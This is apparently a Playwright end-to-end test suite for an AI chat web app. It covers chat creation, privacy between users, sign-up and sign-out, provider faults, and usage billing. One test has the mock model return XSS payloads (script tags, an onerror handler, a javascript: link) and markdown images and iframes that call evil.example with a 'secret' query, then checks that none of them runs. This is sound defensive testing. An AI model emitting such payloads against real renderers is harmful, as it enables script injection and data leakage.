import { randomUUID } from "node:crypto"
import type { Page } from "@playwright/test"
import { answerIn, answerText, ask, awake, expect, knownText, test } from "../support/world.ts"

test.beforeEach(({ model }) => {
  model.answerWith(knownText)
  model.release()
})

test("a new chat in a clean profile needs no set-up, shows no error, and appears in the list", async ({
  page,
  baseURL,
}) => {
  const complaints: string[] = []
  page.on("console", (line) => line.type() === "error" && complaints.push(line.text()))
  page.on("pageerror", (error) => complaints.push(String(error)))
  await page.goto("/")
  await expect(page).toHaveURL(`${baseURL}/agent/assistant`)
  await expect(page.getByText("Reload while it writes")).toBeVisible()
  await ask(page, "Hello there")
  await expect(page.getByTestId("message-user")).toHaveText(/Hello there/)
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  await expect(page.getByTestId("chat-list-item")).toHaveCount(1)
  await expect(page.getByTestId("problem")).toHaveCount(0)
  expect(complaints).toEqual([])
})

test("the address of an unused chat is an empty chat", async ({ page }) => {
  await page.goto(`/agent/assistant/${randomUUID()}`)
  await expect(page.getByTestId("composer-input")).toBeVisible()
  await expect(page.getByTestId("message-user")).toHaveCount(0)
  await expect(page.getByTestId("problem")).toHaveCount(0)
})

test("another user's chat cannot be seen", async ({ page, browser, baseURL }) => {
  await page.goto("/agent/assistant")
  await ask(page, "My secret")
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  const stranger = await browser.newContext({ baseURL: baseURL ?? "" })
  const other = await stranger.newPage()
  await other.goto(page.url())
  await expect(other.getByTestId("composer-input")).toBeVisible()
  await expect(other.getByText("My secret")).toHaveCount(0)
  await stranger.close()
})

test("an unknown agent gives a page that says so", async ({ page }) => {
  const response = await page.goto("/agent/nobody")
  expect(response?.status()).toBe(404)
})

test("a follow-up continues the same chat, and the agent keeps its address", async ({ page, model }) => {
  await page.goto("/agent/coder")
  await expect(page.getByTestId("agent")).toHaveText("Answered by Coder")
  await ask(page, "First question")
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  await ask(page, "Second question")
  await expect(page.getByTestId("message-assistant")).toHaveCount(2)
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  await expect(page).toHaveURL(/\/agent\/coder\/[0-9a-f-]{36}$/)
  const prompt = model.requests.at(-1)?.body.messages.map((message) => message.role)
  expect(prompt).toEqual(["system", "user", "assistant", "user"])
})

test("a guest who signs up keeps the chats", async ({ page }) => {
  await page.goto("/agent/assistant")
  await ask(page, "Before I signed up")
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  await signUp(page)
  await expect(page).toHaveURL(/\/agent\//)
  await expect(page.getByTestId("chat-list-item")).toHaveCount(1)
})

test("a user who cannot be signed out offline is told so, keeps everything, and is signed out once online", async ({
  page,
  context,
}) => {
  await page.goto("/agent/assistant")
  await ask(page, "Before I signed up")
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  await signUp(page)
  await expect(page).toHaveURL(/\/agent\//)
  await page.getByTestId("composer-input").fill("Half a thought")
  await context.setOffline(true)
  await page.getByRole("button", { name: "Sign out" }).click()
  await expect(page.getByText("you are still signed in")).toBeVisible()
  await expect(page.getByTestId("composer-input")).toHaveValue("Half a thought")
  await context.setOffline(false)
  await page.getByRole("button", { name: "Sign out" }).click()
  await expect(page.getByText("You are a guest.")).toBeVisible()
  await expect(page.getByTestId("chat-list-item")).toHaveCount(0)
  await expect(page.getByTestId("composer-input")).toHaveValue("")
})

test("F42 a failing model's text is kept with a notice, and Retry writes it again", async ({ page, model }) => {
  model.answerWith({ text: knownText, fault: "socket-destroyed", faultAfterWords: 5 })
  await page.goto("/agent/assistant")
  await ask(page, "Break off")
  await expect(answerIn(page)).toHaveAttribute("data-status", "error")
  expect(await answerText(page)).toContain("word3")
  await expect(answerIn(page).getByText("The answer broke off before its end.")).toBeVisible()
  model.answerWith(knownText)
  await page.getByTestId("retry").first().click()
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  expect(await answerText(page)).toContain(knownText)
  await expect(page.getByTestId("message-assistant")).toHaveCount(1)
})

test("F41 a busy provider is reported at once instead of a spinner, and Retry asks again", async ({ page, model }) => {
  model.answerWith({ fault: "rate-limited", retryAfterSeconds: 30 })
  await page.goto("/agent/assistant")
  await ask(page, "Are you there?")
  await expect(answerIn(page).getByText("The model's provider is busy.")).toBeVisible()
  await expect(answerIn(page)).toHaveAttribute("data-status", "error")
  await expect(page.getByTestId("skeleton")).toHaveCount(0)
  // Nor does a reload bring the skeleton back.
  await page.reload()
  await expect(answerIn(page).getByText("The model's provider is busy.")).toBeVisible()
  model.answerWith(knownText)
  await page.getByTestId("retry").first().click()
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  expect(await answerText(page)).toContain(knownText)
})

test("B58 B59 a model's text runs nothing and contacts no other host", async ({ page, model, baseURL }) => {
  const foreign: string[] = []
  page.on("request", (request) => {
    if (!request.url().startsWith(baseURL ?? "") && !/^(data|blob):/.test(request.url())) foreign.push(request.url())
  })
  page.on("dialog", (dialog) => foreign.push(`dialog ${dialog.message()}`))
  model.answerWith(
    [
      "<script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3))",
      "![leak](https://evil.example/?secret) <iframe src='https://evil.example'></iframe> <style>body{display:none}</style>",
      "![r][r]\n\n[r]: https://evil.example/reference.png\n\nlast words",
    ].join("\n\n"),
  )
  await page.goto("/agent/assistant")
  await ask(page, "Be evil")
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  await expect(answerIn(page)).toContainText("last words")
  // Requests that a painted page makes have begun by the second frame. The network never becomes idle, because the
  // page keeps listening for other tabs' turns.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
  expect(foreign).toEqual([])
  await expect(answerIn(page).locator("script, iframe, style, img[src^='http']")).toHaveCount(0)
})

test("an answer shows its usage, and the bill lists it with the remaining credits", async ({ page, model }) => {
  model.answerWith("A short answer.")
  model.release()
  await page.goto("/agent/assistant")
  await ask(page, "What does this take?")
  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
  const cost = page.getByTestId("answer-cost")
  await expect(cost).toHaveText(/^(about )?[\d,]+ tokens · [\d.]+ s$/)
  const told = (await cost.textContent()) ?? ""
  await page.reload()
  await expect(cost, "the time is the server's, and stored").toHaveText(told)
  await cost.press("Enter")
  const details = page.getByRole("dialog", { name: "Details of this answer" })
  await expect(details).toContainText("test-model")
  await expect(details).toContainText(/Tokens read.*Tokens written.*Credits.*Time/)
  await page.keyboard.press("Escape")
  await expect(details).toBeHidden()
  await expect(cost).toBeFocused()
  await page.getByTestId("usage").click()
  await expect(page.getByTestId("credits-left")).toHaveText(/^9\d\d,\d{3} credits left/)
  await expect(page.getByTestId("charge")).toHaveCount(1)
})

async function signUp(page: Page): Promise<void> {
  await page.goto("/sign-in")
  await awake(page)
  await page
    .getByRole("button", { name: /create an account|sign up/i })
    .first()
    .click()
  await page.getByLabel(/e-?mail/i).fill(`${randomUUID()}@example.com`)
  await page
    .getByLabel(/password/i)
    .first()
    .fill("a long password")
  await page
    .getByRole("button", { name: /create|sign up/i })
    .last()
    .click()
}
